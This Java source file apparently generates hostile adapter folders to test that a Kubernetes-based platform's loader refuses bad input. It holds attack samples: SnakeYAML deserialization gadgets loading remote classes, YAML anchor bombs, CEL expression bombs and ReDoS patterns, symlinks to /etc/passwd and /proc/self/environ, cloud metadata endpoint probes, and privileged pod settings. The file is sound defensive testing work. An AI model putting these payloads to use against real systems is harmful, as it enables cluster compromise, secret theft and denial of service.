package io.hyperfleet.hostile;

import io.hyperfleet.hostile.HostileFolder.Intent;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.regex.Pattern;

/** Makes adapters' folders that are hostile in one place each, of every place that takes anything. */
final class FolderGrammar {

  private static final Pattern SUBSCRIPTION = Pattern.compile("[A-Za-z][A-Za-z0-9._-]{2,254}");
  private static final String CEL_PLACES = "appliesWhen preconditions postconditions data conditions messages manifest";

  private final Hostile hostile;
  private final Map<String, Function<String, HostileFolder>> pieces = new LinkedHashMap<>();
  private int count;

  FolderGrammar(Hostile hostile) {
    this.hostile = hostile;
    pieces.put("fine", this::fine);
    pieces.put("fine with texts", this::texts);
    pieces.put("subscription", this::subscription);
    pieces.put("subscription of another", this::othersSubscription);
    pieces.put("namespace",
        name -> key(name, "namespace", "namespace", hostile.one(List.of("kube-system", "default", "../kube-system",
            "hyperfleet-adapters/../kube-system", "hyperfleet-adapters?x=1", hostile.printable()))));
    pieces.put("kind of resource", name -> replaced(name, "kind of resource", Intent.REFUSED_AT_LOAD, "spec.for",
        "for: Cluster",
        "for: " + Hostile.quoted(hostile
            .one(List.of("Galaxy", "Cluster?watch=true", "../clusters", "Cluster,NodePool", hostile.printable())))));
    pieces.put("template",
        name -> replaced(name, "template", Intent.REFUSED_AT_LOAD, "spec.template", "template: job-adapter",
            "template: " + Hostile.quoted(
                hostile.one(List.of("adapter-hint", "adapter-subscription", "direct:x", hostile.printable())))));
    pieces.put("concurrency",
        name -> extra(name, "concurrency", Intent.REFUSED_AT_LOAD, "spec.concurrency", "  concurrency: "
            + hostile.one(List.of("0", "-1", "65", "1e9", "18446744073709551616", ".inf", ".nan", "\"4\"", "[4]", "4.5",
                "\"{{env:HOME}}\""))));
    pieces.put("unknown key", name -> extra(name, "unknown key", Intent.REFUSED_AT_LOAD, "spec",
        "  " + Hostile.quoted(hostile.printable() + "x") + ": 1"));
    pieces.put("metadata name",
        name -> replaced(name, "metadata name", Intent.REFUSED_AT_LOAD, "metadata.name", "name: " + name,
            "name: " + Hostile.quoted(hostile.one(List.of("steady", "dns", name + "x", hostile.printable())))));
    pieces.put("folder name", this::folderName);
    pieces.put("manifest path", name -> replaced(name, "manifest path", Intent.REFUSED_AT_LOAD, "spec.manifest",
        "manifest: job.yaml",
        "manifest: " + Hostile.quoted(hostile.one(List.of("../steady/job.yaml", "/etc/passwd",
            "job.yaml/../../steady/job.yaml", "file:job.yaml",
            "classpath:application.yaml", "http://x/job.yaml", "https://x.example/job.yaml", hostile.printable())))));
    pieces.put("cel that is none", this::brokenCel);
    pieces.put("cel bomb", this::bomb);
    pieces.put("cel types", this::confusedTypes);
    pieces.put("pod policy", this::podPolicy);
    pieces.put("decoy", this::decoy);
    pieces.put("applied policy", this::appliedPolicy);
    pieces.put("coerced scalar", this::coerced);
    pieces.put("unknown field",
        name -> job(name, "unknown field", Intent.REFUSED, "backofLimit", "  backofLimit: 2", "", ""));
    pieces.put("wrong type",
        name -> job(name, "wrong type", Intent.REFUSED, "",
            hostile.one(List.of("  completions: \"one\"", "  completions: [1]",
                "  parallelism: {a: 1}", "  suspend: 5", "  selector: text", "  activeDeadlineSeconds: 1e30")),
            "", ""));
    pieces.put("object name", this::objectName);
    pieces.put("discover", this::discover);
    pieces.put("labels", this::byLabels);
    pieces.put("yaml", this::yaml);
    pieces.put("special file", this::special);
    pieces.put("odd files", this::oddFiles);
    pieces.put("parameters",
        name -> extra(name, "parameters", Intent.EITHER, "spec.parameters", "  parameters:\n    x: "
            + hostile.one(List.of(hostile.one(Hostile.NUMBERS), hostile.one(Hostile.IMPOSSIBLE_NUMBERS), "\"\\0\"",
                "[".repeat(45) + "]".repeat(45),
                "{" + Hostile.quoted(hostile.printable()) + ": 1}"))
            + "\n  data:\n    x: adapter.parameters.x"));
    pieces
        .put("condition",
            name -> extra(name, "condition", Intent.EITHER, "",
                "  conditions:\n    " + Hostile.quoted(hostile.one(List.of("Applied",
                    "Available", "Ready", "Health", hostile.printable()))) + ": "
                    + hostile.one(List.of("true", "\"true\"",
                        "{status: \"true\", reason: " + Hostile.quoted(hostile.printable().replace("$", "")) + "}"))));
    pieces.put("platform names", this::platformNames);
  }

  /** One of every piece, and as many more as wanted. */
  List<HostileFolder> folders(int more) {
    return hostile.mix(pieces, piece -> piece.apply("h" + ++count + hostile.one(List.of("", "-a", "x-1"))), more);
  }

  private static Map<String, String> files(String name) {
    var files = new LinkedHashMap<String, String>();
    files.put("adapter.yaml", """
        apiVersion: hyperfleet.io/v1
        kind: Adapter
        metadata:
          name: %s
        spec:
          template: job-adapter
          for: Cluster
          manifest: job.yaml
        """.formatted(name));
    files.put("job.yaml", jobText("", "", ""));
    return files;
  }

  private static String jobText(String spec, String pod, String container) {
    return """
        apiVersion: batch/v1
        kind: Job
        spec:
          backoffLimit: 0
        %s
          template:
            spec:
              restartPolicy: Never
        %s
              containers:
                - name: run
                  image: busybox:1.36
        %s
        """.formatted(spec, pod, container);
  }

  private HostileFolder fine(String name) {
    return HostileFolder.of("fine", name, Intent.WORKS, "", files(name));
  }

  private static HostileFolder job(String name, String piece, Intent intent, String key, String spec, String pod,
      String container) {
    var files = files(name);
    files.put("job.yaml", jobText(spec, pod, container));
    return HostileFolder.of(piece, name, intent, key, files);
  }

  private static HostileFolder extra(String name, String piece, Intent intent, String key, String lines) {
    var files = files(name);
    files.merge("adapter.yaml", lines + "\n", String::concat);
    return HostileFolder.of(piece, name, intent, key, files);
  }

  private static HostileFolder replaced(String name, String piece, Intent intent, String key, String text, String by) {
    var files = files(name);
    files.put("adapter.yaml", files.get("adapter.yaml").replace(text, by));
    return HostileFolder.of(piece, name, intent, key, files);
  }

  private static HostileFolder key(String name, String piece, String key, String value) {
    return extra(name, piece, Intent.REFUSED, "", "  " + key + ": " + Hostile.quoted(value));
  }

  private static HostileFolder applied(String name, String piece, Intent intent, String spec, String object) {
    var files = new LinkedHashMap<String, String>();
    files.put("adapter.yaml", """
        apiVersion: hyperfleet.io/v1
        kind: Adapter
        metadata:
          name: %s
        spec:
          template: resource-adapter
          for: Cluster
          manifest: object.yaml
          postconditions:
            it is there: has(resources.object)
        %s
        """.formatted(name, spec));
    files.put("object.yaml", object);
    return HostileFolder.of(piece, name, intent, "", files);
  }

  private HostileFolder texts(String name) {
    var text = Hostile.quoted(hostile.printable().replace("$", "").replace("{{", "{ {"));
    var raw = Hostile.quoted("{{bean:" + Canaries.BEAN + ".touch}} {{" + Canaries.PROPERTY + "}} #class:"
        + Canaries.CLASS + " " + hostile.printable().replace("$", ""));
    var folder = extra(name, "fine with texts", Intent.WORKS, "",
        "  description: " + raw + "\n  parameters:\n    a: " + raw
            + "\n  preconditions:\n    " + Hostile.quoted("x" + hostile.printable().replace("$", ""))
            + ": \"true\"\n  data:\n    a: adapter.parameters.a");
    var files = new LinkedHashMap<>(folder.files());
    files.put("job.yaml",
        jobText("", "",
            "          env:\n            - name: A\n              value: " + raw
                + "\n            - name: B\n              value: "
                + text)
            .getBytes(StandardCharsets.UTF_8));
    return new HostileFolder(folder.piece(), name, folder.intent(), "", files, folder.extra());
  }

  private HostileFolder subscription(String name) {
    var text = hostile
        .one(List.of("x1%3Fserializer%3D%23class%3A" + Canaries.CLASS, "x1%3FackMode%3DNONE%26synchronousPull%3Dtrue",
            "x1%3Fserializer%3D%23class%3A" + Canaries.CLASS + "%28%27x%27%29",
            "x1%3FexceptionHandler%3D%23class%3A" + Canaries.CLASS, "abc~def", "abc+def",
            "a%20b", "x1%3Fendpoint%3D127.0.0.1:1", hostile.printable(), hostile.printable()));
    return extra(name, "subscription", SUBSCRIPTION.matcher(text).matches() ? Intent.EITHER : Intent.REFUSED_AT_LOAD,
        "spec.subscription",
        "  subscription: " + Hostile.quoted(text));
  }

  private HostileFolder othersSubscription(String name) {
    var folder = hostile.one(List.of("aaa-" + name, "zzz-" + name));
    return extra(folder, "subscription of another", Intent.REFUSED_AT_LOAD, "spec.subscription", "  subscription: "
        + hostile.one(List.of("dns-adapter-sub", "validation-adapter-sub",
            folder.startsWith("z") ? "steady-adapter-sub" : "placement-adapter-sub")));
  }

  private HostileFolder folderName(String name) {
    var odd = hostile.one(List.of("A" + name, name + " x", name + "?a=b", name + "#class:" + Canaries.CLASS,
        name + "{{env:HOME}}", name + "\"} 1",
        name + "%2e%2e", "-" + name, name + "_x", name + "é", "x".repeat(45) + name, name + "\n" + name,
        name + "\u202e"));
    var folder = files("x");
    folder.put("adapter.yaml", folder.get("adapter.yaml").replace("name: x", "name: " + Hostile.quoted(odd)));
    return HostileFolder.of("folder name", odd, Intent.REFUSED_AT_LOAD, "metadata.name", folder);
  }

  /** A definition with an expression in one of the places that take one. */
  private HostileFolder expression(String name, String piece, Intent intent, String cel, String more) {
    var place = hostile.one(List.of(CEL_PLACES.split(" ")));
    var text = Hostile.quoted(cel);
    var lines = switch (place) {
      case "appliesWhen" -> "  appliesWhen: " + text;
      case "preconditions", "postconditions", "data" -> "  " + place + ":\n    x: " + text;
      case "conditions" -> "  conditions:\n    Custom: " + text;
      case "messages" -> "  messages:\n    JobLaunched: " + Hostile.quoted("x ${" + cel + "}") + "\n    JobInProgress: "
          + Hostile.quoted("x ${" + cel + "}")
          + "\n    JobSucceeded: " + Hostile.quoted("x ${" + cel + "}");
      default -> "";
    };
    var folder = extra(name, piece, intent, "", (lines.isEmpty() ? "" : lines + "\n") + more);
    return place.equals("manifest")
        ? folder.with("job.yaml", jobText("", "", "          env:\n            - name: X\n              value: "
            + Hostile.quoted("${" + cel + "}")).getBytes(StandardCharsets.UTF_8))
        : folder;
  }

  private HostileFolder brokenCel(String name) {
    return expression(name, "cel that is none", Intent.REFUSED_AT_LOAD,
        hostile.one(List.of("cluster.spec.x ==", "nobody.knows == 1", "1 + 'a'", "((((",
            "true ? 1", "[1, 2", "unknownFunction(1)", "(".repeat(300) + "1" + ")".repeat(300) + " == 1",
            "!".repeat(600) + "true", "has(1)", "cluster.exists(1, 2)", "size()",
            "1 == 1 && " + "1 == 1 && ".repeat(600) + "true")),
        "");
  }

  private HostileFolder bomb(String name) {
    var big = "  parameters:\n    big: " + "x".repeat(60_000) + "\n  concurrency: "
        + hostile.one(List.of("1", "4", "16"));
    var range = "lists.range(10000)";
    return expression(name, "cel bomb", Intent.LATE, hostile.one(List.of(
        "size(" + range + ".map(i, adapter.parameters.big + string(i))) < 0",
        "size(" + range + ".map(i, [i, i, i, i, i, i, i, i].map(j, string(j) + adapter.parameters.big))) < 0",
        "lists.range(1000).all(a, lists.range(1000).all(b, a + b >= 0))",
        "lists.range(300).map(a, lists.range(300).map(b, lists.range(300))).size() == 1",
        "adapter.parameters.big.matches('(x+x+)+y')", "adapter.parameters.big.matches('(x*)*$')",
        "adapter.parameters.big.replace('x', adapter.parameters.big).size() == 0",
        "'aaaaaaaaaa'.replace('a', 'aaaaaaaaaa').replace('a', 'aaaaaaaaaa').replace('a', 'aaaaaaaaaa').replace('a', 'aaaaaaaaaa')"
            + ".replace('a', 'aaaaaaaaaa').replace('a', 'aaaaaaaaaa').replace('a', 'aaaaaaaaaa') == ''",
        range + ".map(i, adapter.parameters.big).join('').size() == 0",
        "adapter.parameters.big.split('').map(c, adapter.parameters.big).size() == 0",
        "'%s%s%s%s%s%s%s%s'.format(" + "[adapter.parameters.big, ".repeat(1)
            + "adapter.parameters.big, adapter.parameters.big, adapter.parameters.big, "
            + "adapter.parameters.big, adapter.parameters.big, adapter.parameters.big, adapter.parameters.big]).size() == 0",
        "toJson(" + range + ".map(i, adapter.parameters.big)) == ''", "lists.range(1000000000).size() == 0",
        "lists.range(-1).size() == 0",
        "'%.2000000000f'.format([1.0]) == ''", range + ".map(i, {'a': adapter.parameters.big + string(i)}).size() == 0",
        range + ".sort().reverse().distinct().size() == 0",
        "(" + range + " + " + range + ").map(i, " + range + ").size() == 0")), big);
  }

  private HostileFolder confusedTypes(String name) {
    return expression(name, "cel types", Intent.EITHER,
        hostile
            .one(List.of("cluster.spec + 1 == 2", "cluster == cluster.spec.x", "cluster.name.size() + cluster.name > 1",
                "cluster.spec.x.y.z == 1", "adapters[1] == 2", "now + now == now",
                "9223372036854775807 + cluster.generation == 1", "1 / (cluster.generation - cluster.generation) == 1",
                "int(cluster.name) == 1", "timestamp(cluster.name) == now", "duration('1e9h') == duration('1s')",
                "bytes(cluster.name) == b''", "type(cluster) == map",
                "[cluster][1] == 1", "cluster.spec.?region.orValue(1) == 1", "double(cluster.generation) / 0.0 == 1.0",
                "-9223372036854775808 / -cluster.generation == 1",
                "resources.job.status.x.y == 1", "event.kind + event.generation == ''", "null == cluster.nothing",
                "{1: 2}[cluster.id] == 2", "dyn(1) + dyn('a') == 1")),
        "");
  }

  private String flag() {
    return hostile.one(List.of("true", "\"true\"", "True", "\"${true}\"", "\"${'true'}\"",
        "\"${cluster.generation > 0}\"", "yes", "\"yes\"", "1", "!!bool true"));
  }

  private String port() {
    return hostile.one(List.of("8080", "\"8080\"", "\"${8080}\"", "\"${'8080'}\"", "0x1F90", "8080.0", "8_080", "+8080",
        "\"${cluster.generation + 8079}\"", "8.08e3"));
  }

  private String name(String text) {
    return hostile.one(List.of(text, "\"" + text + "\"", "\"${'" + text + "'}\"", "\"${['" + text + "'][0]}\"",
        "!!str " + text, "'" + text + "'"));
  }

  private HostileFolder podPolicy(String name) {
    var pod = "      ";
    var container = "          ";
    var spelled = hostile.one(List.of("hostNetwork", "hostPID", "hostIPC", "\"hostNetwork\"", "\"${'hostNetwork'}\"",
        "\"${'host' + 'PID'}\"", "? hostIPC\n      "));
    return switch (hostile.random().nextInt(18)) {
      case 0, 1 -> job(name, "pod policy", Intent.REFUSED, "", "", pod + spelled + ": " + flag(), "");
      case 2 -> job(name, "pod policy", Intent.REFUSED, "", "", pod + "serviceAccountName: " + name("admin"), "");
      case 3 -> job(name, "pod policy", Intent.REFUSED, "", "", pod + "serviceAccount: " + name("admin"), "");
      case 4 -> job(name, "pod policy", Intent.REFUSED, "", "", pod + "nodeName: " + name("node-1"), "");
      case 5 ->
        job(name, "pod policy", Intent.REFUSED, "", "", pod + "priorityClassName: " + name("system-node-critical"), "");
      case 6 -> job(name, "pod policy", Intent.REFUSED, "", "", pod + "volumes: [{name: a, hostPath: {path: /}}]", "");
      case 7 -> job(name, "pod policy", Intent.REFUSED, "", "",
          pod + "volumes: \"${[{'name': 'a', 'hostPath': {'path': '/etc'}}]}\"", "");
      case 8 -> job(name, "pod policy", Intent.REFUSED, "", "",
          pod + "volumes: [{name: a, secret: {secretName: " + name("token") + "}}]", "");
      case 9 -> job(name, "pod policy", Intent.REFUSED, "", "", "",
          container + "ports: [{containerPort: 80, hostPort: " + port() + "}]");
      case 10 -> job(name, "pod policy", Intent.REFUSED, "", "", "",
          container + "securityContext: {privileged: " + flag() + "}");
      case 11 -> job(name, "pod policy", Intent.REFUSED, "", "", "",
          container + "securityContext: {capabilities: {add: [" + name("SYS_ADMIN") + "]}}");
      case 12 -> job(name, "pod policy", Intent.REFUSED, "", "", "",
          container + "lifecycle: {postStart: {httpGet: {host: 169.254.169.254, port: 80, path: /x}}}");
      case 13 -> job(name, "pod policy", Intent.REFUSED, "", "", "",
          container + "livenessProbe: {" + hostile.one(List.of("httpGet", "tcpSocket")) + ": {host: "
              + name("10.0.0.1") + ", port: 80}}");
      case 14 -> job(name, "pod policy", Intent.REFUSED, "", "", "",
          container + "env: [{name: A, valueFrom: {secretKeyRef: {name: token, key: a}}}]");
      case 15 -> job(name, "pod policy", Intent.REFUSED, "", "",
          pod + "securityContext: {" + hostile.one(List.of("sysctls: [{name: kernel.shm_rmid_forced, value: \"1\"}, "
              + "{name: net.core.x, value: \"1\"}]", "seLinuxOptions: {user: root}",
              "windowsOptions: {hostProcess: true}", "seccompProfile: {type: Unconfined}")) + "}",
          "");
      case 16 -> job(name, "pod policy", Intent.REFUSED, "", "",
          pod + "initContainers: [{name: i, image: x, securityContext: {privileged: " + flag() + "}}]", "");
      default -> job(name, "pod policy", Intent.REFUSED, "", "", "",
          container + "securityContext: {procMount: " + name("Unmasked") + "}");
    };
  }

  private HostileFolder decoy(String name) {
    var bad = "      hostNetwork: true\n      volumes: [{name: a, hostPath: {path: /}}]\n      serviceAccountName: admin";
    return switch (hostile.random().nextInt(5)) {
      case 0 -> job(name, "decoy", Intent.REFUSED, "", "  jobTemplate: {spec: {}}", bad, "");
      case 1 ->
        job(name, "decoy", Intent.REFUSED, "", "  jobTemplate: {spec: {template: {spec: {containers: []}}}}", bad, "");
      case 2 -> job(name, "decoy", Intent.REFUSED, "", "  Template: {spec: {hostNetwork: true}}", "", "");
      case 3 -> HostileFolder.of("decoy", name, Intent.REFUSED, "", files(name)).with("job.yaml",
          ("apiVersion: batch/v1\nkind: Job\nspec: "
              + "\"${{'template': {'spec': {'hostNetwork': true, 'restartPolicy': 'Never', 'containers': [{'name': 'a', 'image': 'b'}]}}}}\"\n")
              .getBytes(StandardCharsets.UTF_8));
      default -> HostileFolder.of("decoy", name, Intent.REFUSED, "", files(name)).with("job.yaml",
          ("apiVersion: batch/v1\nkind: Job\nspec:\n  template: &t\n    spec:\n"
              + "      restartPolicy: Never\n      hostPID: true\n      containers: [{name: a, image: b}]\n  jobTemplate: {spec: {template: *t}}\n")
              .getBytes(StandardCharsets.UTF_8));
    };
  }

  private HostileFolder appliedPolicy(String name) {
    var service = "apiVersion: v1\nkind: Service\nmetadata: {name: \"" + name
        + "-${cluster.id}\"}\nspec:\n  ports: [{port: 80}]\n  ";
    var deployment = "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: \"" + name
        + "-${cluster.id}\"}\nspec:\n  selector: {matchLabels: {a: b}}\n%s  template:\n"
        + "    metadata: {labels: {a: b}}\n    spec:\n      containers: [{name: a, image: b}]\n      %s\n";
    var plain = "apiVersion: %s\nkind: %s\nmetadata: {name: \"" + name + "-${cluster.id}\"}\n";
    return applied(name, "applied policy", Intent.REFUSED, "", hostile.one(List.of(
        service + "type: " + name("LoadBalancer"), service + "externalIPs: [10.0.0.1]",
        service + "type: ExternalName\n  externalName: " + name("169.254.169.254"),
        deployment.formatted("", "hostNetwork: " + flag()),
        deployment.formatted("  jobTemplate: {spec: {}}\n", "hostPID: true"), deployment.formatted("", "nodeName: x"),
        plain.formatted("v1", "Secret"),
        plain.formatted("v1", name("Secret")), plain.formatted("v1", "Pod"),
        plain.formatted("rbac.authorization.k8s.io/v1", "ClusterRoleBinding"),
        plain.formatted("v1", "Namespace"),
        plain.formatted("v1", "List") + "items: [{apiVersion: v1, kind: Pod, spec: {hostNetwork: true}}]\n",
        plain.formatted("batch/v1", "CronJob")
            + "spec:\n  schedule: \"* * * * *\"\n  template: {spec: {}}\n  jobTemplate:\n    spec:\n      template:\n        spec:\n"
            + "          restartPolicy: Never\n          hostNetwork: true\n          containers: [{name: a, image: b}]\n",
        plain.formatted("v1?dryRun=All", "ConfigMap"),
        plain.formatted("v1", "ConfigMap").replace("metadata: {", "metadata: {namespace: kube-system, "),
        plain.formatted("v1", "ConfigMap").replace("metadata: {",
            "metadata: {namespace: " + name("kube-system") + ", "))));
  }

  private HostileFolder coerced(String name) {
    var scalar = hostile.one(List.of("012345671234", "yes", "no", "on", "1.10", "0644", "true", "1e3", "0x1f",
        "12345678901234567890", "1_000"));
    return switch (hostile.random().nextInt(4)) {
      case 0 ->
        job(name, "coerced scalar", Intent.REFUSED, "", "", "", "          env: [{name: A, value: " + scalar + "}]");
      case 1 -> job(name, "coerced scalar", Intent.REFUSED, "", "", "", "          args: [" + scalar + "]");
      case 2 ->
        applied(name, "coerced scalar", Intent.REFUSED, "", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: \""
            + name + "-${cluster.id}\"}\ndata: {a: " + scalar + "}\n");
      default -> applied(name, "coerced scalar", Intent.REFUSED, "",
          "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: \"" + name + "-${cluster.id}\", "
              + hostile.one(List.of("labels", "annotations")) + ": {a: " + scalar + "}}\n");
    };
  }

  private HostileFolder objectName(String name) {
    var text = hostile.printable().replace("'", "").replace("\\", "");
    boolean fine = text.matches("[a-z0-9]([-a-z0-9.]*[a-z0-9])?") && !text.contains("..") && text.length() < 254;
    return applied(name, "object name", fine ? Intent.EITHER : Intent.REFUSED, "",
        "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: "
            + Hostile.quoted("${'" + text + "'}") + "\n");
  }

  private HostileFolder discover(String name) {
    var text = hostile.printable().replace("'", "").replace("\\", "");
    var object = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: \"" + name + "-${cluster.id}\"}\n";
    return applied(name, "discover", Intent.EITHER, "  discover:\n    - name: it\n" + hostile.one(List.of(
        "      apiVersion: v1\n      kind: Service\n      byName: " + Hostile.quoted("${'" + text + "'}"),
        "      apiVersion: v1\n      kind: Service\n      byName: " + Hostile.quoted(text),
        "      apiVersion: v1\n      kind: Secret\n      byName: x",
        "      apiVersion: " + Hostile.quoted("v1/../../x") + "\n      kind: Service\n      byName: x",
        "      apiVersion: v1\n      kind: " + Hostile.quoted("Service?watch=true") + "\n      byName: x",
        "      apiVersion: " + Hostile.quoted("x.example/v1") + "\n      kind: Thing\n      byName: x")), object);
  }

  private HostileFolder byLabels(String name) {
    var text = hostile.printable().replace("'", "").replace("\\", "");
    var object = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: \"" + name + "-${cluster.id}\"}\n";
    return applied(name, "labels", Intent.EITHER,
        "  discover:\n    - name: it\n      apiVersion: v1\n      kind: ConfigMap\n      byLabels:\n        "
            + hostile.one(List.of(Hostile.quoted(text) + ": x", "app: " + Hostile.quoted("${'" + text + "'}"),
                "app: " + Hostile.quoted(text),
                "app: \"x,hyperfleet.io/managed-by=steady\"", "\"app,b\": c", "\"!app\": \"\"", "app: 1",
                "\"app in (a)\": \"\"")),
        object);
  }

  private HostileFolder yaml(String name) {
    var lines = hostile.one(List.of("  parameters: !!" + Canaries.CLASS + " {}",
        "  parameters: {a: !!" + Canaries.CLASS + " x}",
        "  parameters: !<tag:yaml.org,2002:" + Canaries.CLASS + "> [x]",
        "  parameters: {a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]}",
        "  for: Cluster", "  parameters: {a: 1, a: 2}", "  parameters: &a {b: *a}",
        "  parameters:\n    a: &a [x, x, x, x, x, x, x, x, x]\n    b: &b [*a, *a, *a, *a, *a, *a, *a, *a]\n"
            + "    c: &c [*b, *b, *b, *b, *b, *b, *b, *b]\n    d: &d [*c, *c, *c, *c, *c, *c, *c, *c]\n    e: [*d, *d, *d, *d, *d, *d, *d, *d]\n    f: [*d, *d, *d, *d, *d, *d, *d, *d]\n"
            + "    g: [*d, *d, *d, *d, *d, *d, *d, *d]\n    h: [*d, *d, *d, *d, *d, *d, *d, *d]",
        "  parameters:\n    <<: {a: 1}", "---\napiVersion: hyperfleet.io/v1", "\tparameters: 1",
        "  parameters: {a: \"\u0001\"}", "  parameters: " + "[".repeat(200) + "]".repeat(200),
        "  parameters: {? [a] : b}", "  parameters: {1: 2}", "  parameters: {a: \"" + "x".repeat(300_000) + "\"}",
        "  parameters: [", "  parameters: {a: *nobody}",
        "%YAML 9.9\n---\na: b", "  parameters: {a: !!binary \"%%%\"}",
        "  parameters: {" + "a".repeat(2_000) + ": {}, x: !x y}"));
    return extra(name, "yaml", Intent.REFUSED_AT_LOAD, "", lines);
  }

  private HostileFolder special(String name) {
    var folder = HostileFolder.of("special file", name, Intent.REFUSED_AT_LOAD, "", files(name));
    var definition = "adapter.yaml";
    return switch (hostile.random().nextInt(10)) {
      case 9 -> folder.without(definition).with(at -> pipe(at.resolve(definition)));
      case 0 -> folder.without(definition);
      case 1 -> folder.without(definition).with(at -> Files.createDirectory(at.resolve(definition)));
      case 2 ->
        folder.without(definition).with(at -> Files.createSymbolicLink(at.resolve(definition), Path.of("/etc/passwd")));
      case 3 ->
        folder.without("job.yaml").with(at -> Files.createSymbolicLink(at.resolve("job.yaml"), Path.of("job.yaml")));
      case 4 -> folder.without("job.yaml")
          .with(at -> Files.createSymbolicLink(at.resolve("job.yaml"), Path.of("../steady/job.yaml")));
      case 5 ->
        folder.without("job.yaml").with(at -> Files.createSymbolicLink(at.resolve("job.yaml"), Path.of("/dev/zero")));
      case 6 -> folder.without("job.yaml")
          .with(at -> Files.createSymbolicLink(at.resolve("job.yaml"), Path.of("/proc/self/environ")));
      case 7 -> folder.with(definition, new byte[]{(byte) 0xff, (byte) 0xfe, 0, 'a'});
      default -> folder.with(definition, new byte[0]);
    };
  }

  /** Files that the definition does not name, in a folder that is fine: whoever reads them reads long. */
  private HostileFolder oddFiles(String name) {
    return HostileFolder.of("odd files", name, Intent.EITHER, "", files(name))
        .with(hostile.one(List.<HostileFolder.Extra>of(
            at -> pipe(at.resolve("pipe")), at -> pipe(at.resolve("pipe.yaml")),
            at -> Files.createSymbolicLink(at.resolve("zero.yaml"), Path.of("/dev/zero")),
            at -> Files.createSymbolicLink(at.resolve("loop"), Path.of(".")),
            at -> Files.createSymbolicLink(at.resolve("root"), Path.of("/")),
            at -> {
              try (var file = new RandomAccessFile(at.resolve("great.yaml").toFile(), "rw")) {
                file.setLength(1L << 36);
              }
            },
            at -> {
              for (int i = 0; i < 2_000; i++) {
                Files.createFile(at.resolve("file-" + i + ".yaml"));
              }
            })));
  }

  /** A pipe that nobody writes to; none where the machine has no such thing. */
  private static void pipe(Path file) throws IOException {
    try {
      new ProcessBuilder("mkfifo", file.toString()).start().waitFor();
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IOException(e);
    }
  }

  /** Keys that are the platform's: whoever sets them takes objects of others over, or keeps them from going. */
  private HostileFolder platformNames(String name) {
    var metadata = hostile.one(List.of("ownerReferences: [{apiVersion: v1, kind: ConfigMap, name: x, uid: y}]",
        "finalizers: [\"example.com/never\"]",
        "labels: {hyperfleet.io/managed-by: steady}", "labels: {hyperfleet.io/cluster-id: other}",
        "labels: {hyperfleet.io/managed-by: \"a,b\"}",
        "annotations: {hyperfleet.io/generation: \"999\"}", "generateName: x-", "resourceVersion: \"1\"", "uid: x",
        "deletionTimestamp: \"2020-01-01T00:00:00Z\"",
        "managedFields: []", "selfLink: /x"));
    return applied(name, "platform names", Intent.EITHER, "",
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: \"" + name + "-${cluster.id}\", " + metadata + "}\n");
  }
}
